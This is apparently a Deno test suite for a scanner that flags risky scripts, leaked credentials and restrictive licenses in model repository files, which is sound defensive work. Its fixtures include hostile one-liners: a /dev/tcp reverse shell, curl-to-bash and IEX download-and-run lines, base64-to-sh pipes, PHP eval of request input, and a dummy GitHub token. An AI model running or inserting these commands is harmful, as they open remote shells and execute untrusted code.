import * as assert from "node:assert/strict";
import type { Check } from "../../../../../core/scanner/contract/scanner.ts";
import type { Severity } from "../../../../../core/scanner/contract/severity.ts";
import { textScanner } from "../../../../../core/scanner/formats/text/scanner.ts";
import { memorySource } from "../../../../../core/scanner/contract/source.ts";
import { RecordingContext } from "../../recording_context.ts";

const bytesOf = (text: string | Uint8Array) =>
  typeof text === "string" ? new TextEncoder().encode(text) : text;

const file = (name: string, text: string | Uint8Array) => ({
  name,
  source: memorySource(bytesOf(text)),
  depth: 0,
});

function scan(name: string, text: string | Uint8Array) {
  const context = new RecordingContext();
  const checks: Check[] = [...textScanner.scan(file(name, text), context)];
  assert.deepEqual(context.members, []);
  return { checks, facts: context.facts };
}

const failed = (checks: readonly Check[]) => checks.filter(({ status }) => status === "failed");

const TOKEN = "ghp_" + "a8Kd02mfLqPz71xVbN45cTyWe9RuIo3sGhJk";

const MODEL_CARD = `---
language: [en]
license: apache-2.0
tags:
- text-generation
---
# Model

\`\`\`bash
curl -fsSL https://example.org/install.sh | sh
\`\`\`

\`\`\`python
import os
model = AutoModel.from_pretrained("x", token="<your token>")
\`\`\`
`;

const MODELING = `# Copyright 2024 The Example Authors.
# Licensed under the Apache License, Version 2.0
import torch
from torch import nn

class Net(nn.Module):
    def forward(self, x):
        return self.eval_layer(x)
`;

Deno.test("C 16 model cards, vocabularies, licenses and modeling code are clean", () => {
  const benign: readonly (readonly [string, string])[] = [
    ["README.md", MODEL_CARD],
    ["modeling_x.py", MODELING],
    ["vocab.txt", `[PAD]\n[UNK]\n!\n#\n##a\n${"token\n".repeat(10_000)}`],
    ["merges.txt", "#version: 0.2\nĠ t\nĠ a\n"],
    ["LICENSE", "MIT License\n\nCopyright (c) 2026 Someone\n"],
    ["notes.txt", "cmod\nplain text \x80\n"],
    ["empty.txt", ""],
    ["one.txt", "x"],
    ["convert.sh", "#!/bin/sh\npython3 convert.py\n"],
    ["model.R", "f <- system.file('x', package = 'y')\nsystem.time(eval(substitute(x)))\n"],
    ["model.lua", "local model = torch.load('model.t7')\nassert(loadfile)\n"],
    ["model.rb", "# calls `system` of the model\nclass A; def system; end; end\nx.exec(1)\n"],
    ["model.php", "<?php $db->exec($sql); curl_exec($c);\n"],
    ["model.pl", "eval { f() }; # see `perldoc`\n$x->system(1);\n"],
    ["model.jl", 'run(model)\ninclude("x.jl")\n'],
  ];
  for (const [name, text] of benign) {
    const { checks } = scan(name, text);
    const bad = failed(checks).filter(({ severity, incomplete }) =>
      severity === "critical" || severity === "warning" || incomplete !== undefined
    );
    assert.deepEqual(bad, [], name);
    assert.ok(checks.some(({ status }) => status === "passed"), name);
    assert.ok(textScanner.matches(file(name, text)), name);
  }
});

const SCRIPTS: readonly (readonly [string, string, string, Severity])[] = [
  ["run", "#!/bin/bash\n", "S504", "info"],
  ["run.sh", "echo\n", "S504", "info"],
  ["run", "#! /usr/bin/env -S python3 -u\n", "S507", "info"],
  ["run.bat", "dir\n", "S505", "info"],
  ["setup", "@ECHO OFF\r\n", "S505", "info"],
  ["run.ps1", "Get-Item x\n", "S506", "info"],
  ["run", "#!/usr/bin/pwsh\n", "S506", "info"],
  ["x.py", "pass\n", "S507", "info"],
  ["x.pyi", "import os\n", "S507", "info"],
  ["x.js", "1\n", "S508", "info"],
  ["x", "#!/usr/bin/env node\n", "S508", "info"],
  ["x", "#!/opt/other\n", "S504", "info"],
  ["x.lua", "require 'nn'\n", "S504", "info"],
  ["x.R", "library(stats)\n", "S504", "info"],
  ["x", "#!/usr/bin/env Rscript\n", "S504", "info"],
  ["x.rb", "puts 1\n", "S504", "info"],
  ["x.php", "<?php echo 1;\n", "S504", "info"],
  ["x.pl", "print 1;\n", "S504", "info"],
  ["x.jl", "using Flux\n", "S504", "info"],
  ["notes.txt", "#!/bin/sh\n", "S504", "info"],
  ["a.bats", "#!/usr/bin/env bats\n", "S504", "info"],
  ["model.bin", "#!/bin/sh\n", "S504", "warning"],
  ["model.safetensors", "#!/usr/bin/python3\n", "S507", "warning"],
  ["weights.pt", "# weights\n\nimport os\nos.getpid()\n", "S507", "warning"],
];

Deno.test("S504 to S508: recognizes scripts by their first line or their name", async (t) => {
  for (const [name, text, ruleCode, severity] of SCRIPTS) {
    await t.step(`${name} ${text.slice(0, 20).trim()}`, () => {
      assert.ok(textScanner.matches(file(name, text)));
      const [check] = failed(scan(name, text).checks).filter(({ name }) => name === "Script");
      assert.deepEqual([check?.ruleCode, check?.severity], [ruleCode, severity]);
    });
  }
  await t.step("does not take weights for a script", () => {
    for (const text of ["#!", "#! ", "#!x", "#!\0\0/bin/sh", "weights", "import\0os\n"]) {
      assert.equal(textScanner.matches(file("model.bin", text)), false, text);
    }
    const weights = Uint8Array.from([...bytesOf("#!/bin/sh\n"), 0, 1, 2, 255]);
    assert.equal(textScanner.matches(file("model.bin", weights)), false);
  });
});

Deno.test("reports scripts that run what they download, decode or receive", async (t) => {
  const rows: readonly (readonly [string, string, string])[] = [
    ["setup.sh", "curl -s https://example.org/x | sudo bash\n", "S302"],
    ["setup.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "S302"],
    ["setup.sh", "echo aWQ= | base64 -d | sh\n", "S601"],
    ["x.py", "exec(base64.b64decode('aWQ='))\n", "S601"],
    ["x.py", "exec(zlib.decompress(x))\n", "S601"],
    ["x.py", "import os\nos.system('id')\n", "S101"],
    ["x.py", "os.dup2(s.fileno(), 0)\n", "S301"],
    ["x.js", "eval(atob('MQ=='))\n", "S601"],
    ["x.lua", 'os.execute("id")\n', "S101"],
    ["x.lua", "local f = io.popen('id')\n", "S101"],
    ["x.lua", "loadstring(code)()\n", "S101"],
    ["x.rb", 'system "id"\n', "S101"],
    ["x.rb", "out = `id`\n", "S101"],
    ["x.rb", "eval(File.read('x'))\n", "S101"],
    ["x.php", "<?php shell_exec('id');\n", "S101"],
    ["x.php", "<?php eval($_GET['x']);\n", "S101"],
    ["x.R", 'system("id", intern = TRUE)\n', "S101"],
    ["x.r", "eval(parse(text = x))\n", "S101"],
    ["x", "#!/usr/bin/Rscript\nsystem2('id')\n", "S101"],
    ["x.pl", "my $x = `id`;\n", "S101"],
    ["x.pl", 'eval "$x";\n', "S101"],
    ["x.jl", "run(`id`)\n", "S101"],
    ["x.vbs", 'CreateObject("WScript.Shell").Run "calc"\n', "S101"],
    ["x.lua", "-- echo aWQ= | base64 -d | sh\n", "S601"],
    ["x.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://example.org')\n", "S302"],
  ];
  for (const [name, text, ruleCode] of rows) {
    await t.step(`${name}: ${text.trim()}`, () => {
      const found = failed(scan(name, text).checks).filter(({ name }) => name === "Script Content");
      assert.deepEqual(found.map((each) => [each.ruleCode, each.severity]), [[
        ruleCode,
        "warning",
      ]]);
    });
  }
  await t.step("UTF-16, as PowerShell writes it", () => {
    const text = "\ufeffpowershell -enc SQBFAFgA\n";
    const bytes = new Uint8Array(
      [...text].flatMap((each) => [each.charCodeAt(0) & 255, each.charCodeAt(0) >> 8]),
    );
    const found = failed(scan("x.ps1", bytes).checks).filter(({ name }) =>
      name === "Script Content"
    );
    assert.equal(found.length, 1);
  });
});

Deno.test("reports the position of a credential and never shows it", () => {
  const text = `ü ${"x ".repeat(600_000)} ${TOKEN} `;
  const { checks } = scan("README.md", text);
  const [secret, ...more] = failed(checks).filter(({ name }) => name === "Credential");
  assert.deepEqual(more, []);
  assert.equal(secret?.position, bytesOf(text.slice(0, text.indexOf(TOKEN))).length);
  assert.equal(JSON.stringify(checks).includes(TOKEN.slice(4, 16)), false);
  const assigned = scan("x.py", 'api_key = "a8Kd02mfLqPz71xVbN45"\n').checks;
  assert.equal(failed(assigned).filter(({ ruleCode }) => ruleCode === "S701").length, 1);
  assert.equal(JSON.stringify(assigned).includes("mfLqPz"), false);
});

Deno.test("reports a credential across the end of a window once", () => {
  for (const shift of [-60, -20, -1, 0, 1, 16_384 - 20, 16_384 + 20]) {
    const text = `${" ".repeat(1024 * 1024 + shift)}${TOKEN} ${" ".repeat(100_000)}`;
    const found = failed(scan("x.txt", text).checks).map(({ position }) => position);
    assert.deepEqual(found, [1024 * 1024 + shift], String(shift));
  }
});

Deno.test("SR 2.11, 2.12 records the license and the copyright notices of a text", () => {
  const card = scan("README.md", MODEL_CARD).facts;
  assert.equal(card.license, "Apache-2.0");
  assert.deepEqual((card.license_info as { source: string }[]).map(({ source }) => source), [
    "metadata",
  ]);
  const code = scan("modeling_x.py", MODELING).facts;
  assert.equal(code.license, "Apache-2.0");
  const [notice] = code.copyright_notices as { holder: string; year: string }[];
  assert.deepEqual([notice?.holder, notice?.year], ["The Example Authors", "2024"]);
  const secret = scan("LICENSE", `Copyright 2020 ${TOKEN}\n`);
  assert.equal(JSON.stringify(secret.facts).includes(TOKEN.slice(4, 16)), false);
});

Deno.test("C 16 S1008 reports licenses that restrict the use or ask for source code", () => {
  const found = (text: string) =>
    failed(scan("README.md", text).checks).map(({ severity, ruleCode }) =>
      `${severity} ${ruleCode}`
    );
  assert.deepEqual(found("---\nlicense: agpl-3.0\n---\n"), ["warning S1008"]);
  assert.deepEqual(found("SPDX-License-Identifier: AGPL-3.0-or-later\n"), ["warning S1008"]);
  assert.deepEqual(found("---\nlicense: cc-by-nc-4.0\n---\n"), ["warning S1008"]);
  assert.deepEqual(
    found("---\nlicense: other\nlicense_name: flux-1-dev-non-commercial-license\n---\n"),
    [
      "warning S1008",
    ],
  );
  assert.deepEqual(found("---\nlicense: gpl\n---\n"), ["info S1008"]);
  assert.deepEqual(found("---\nlicense: gpl-3.0\n---\nUnlike AGPL-3.0 …\n"), ["info S1008"]);
  for (const free of ["mit", "apache-2.0", "lgpl-3.0", "cc-by-sa-4.0", "llama3", "other"]) {
    assert.deepEqual(found(`---\nlicense: ${free}\n---\n`), [], free);
  }
});

Deno.test("SR 2.11 text has the wording of a license that was recognized by it", () => {
  const wording = `Apache License\nVersion 2.0, January 2004\n${"terms ".repeat(1000)}`;
  const textOf = (name: string, content: string) => {
    const [info] = scan(name, content).facts.license_info as { text: string | null }[];
    return info?.text;
  };
  assert.equal(textOf("LICENSE", wording), wording.slice(0, 2000));
  assert.equal(textOf("README.md", "---\nlicense: mit\n---\n"), null);
  assert.equal(textOf("LICENSE", `${wording.slice(0, 60)} ${TOKEN}`)?.includes(TOKEN), false);
});

Deno.test("does not match files that are only named like texts", () => {
  for (const name of ["README.gz", "LICENSE.pdf", "license.json", "readmeter.bin", "a/notice.so"]) {
    assert.equal(textScanner.matches(file(name, "\x1f\0")), false, name);
  }
  const ofMac = Uint8Array.of(0, 5, 0x16, 7, 0, 2, 0, 0);
  assert.equal(textScanner.matches(file("__MACOSX/._notes.txt", ofMac)), false);
  for (const name of ["LICENSE", "LICENSE-APACHE", "a/Licence.txt", "COPYING.LESSER", "readme"]) {
    assert.ok(textScanner.matches(file(name, "x")), name);
  }
});

Deno.test("evasion 37: reports content that is not what its name says", () => {
  const pickle = new Uint8Array([0x80, 4, 0x95, 1, 0, 0, 0, 0, 0, 0, 0, 0x4e, 0x2e]);
  for (const name of ["model.txt", "README.md", "LICENSE"]) {
    const [check] = failed(scan(name, pickle).checks);
    assert.deepEqual([check?.ruleCode, check?.severity], ["S901", "warning"], name);
  }
});

Deno.test("mutated texts never throw, and no message is long", () => {
  let state = 99;
  const next = () => (state = (Math.imul(state, 1664525) + 1013904223) >>> 0) / 2 ** 32;
  const seeds: readonly (readonly [string, string])[] = [
    ["README.md", MODEL_CARD],
    ["x.py", MODELING],
    ...SCRIPTS.map(([name, text]) => [name, text] as const),
  ];
  for (let round = 0; round < 3000; round++) {
    const [name, text] = seeds[Math.floor(next() * seeds.length)] ?? ["x.txt", ""];
    const bytes = Uint8Array.from(bytesOf(text));
    for (let change = 0; change < 5; change++) {
      bytes[Math.floor(next() * bytes.length)] = Math.floor(next() * 256);
    }
    for (
      const check of scan(name, bytes.subarray(0, Math.floor(next() * 2 * bytes.length))).checks
    ) {
      assert.equal(check.severity !== undefined, check.status === "failed");
      assert.ok(check.message.length < 300);
    }
  }
});

Deno.test("C 16 a template that writes a script is none under another name", () => {
  const text = "import {{ module }}\nfrom os import path\n{% for it in items %}x = 1\n{% endfor %}";
  for (const name of ["a.py.jinja", "module.j2", "app.jinja2", "page.mako"]) {
    assert.equal(textScanner.matches(file(name, text)), false, name);
  }
  const { checks } = scan("run.sh.j2", "#!/bin/sh\necho {{ name }}\n");
  assert.deepEqual(failed(checks).map(({ severity }) => severity), ["info"]);
});
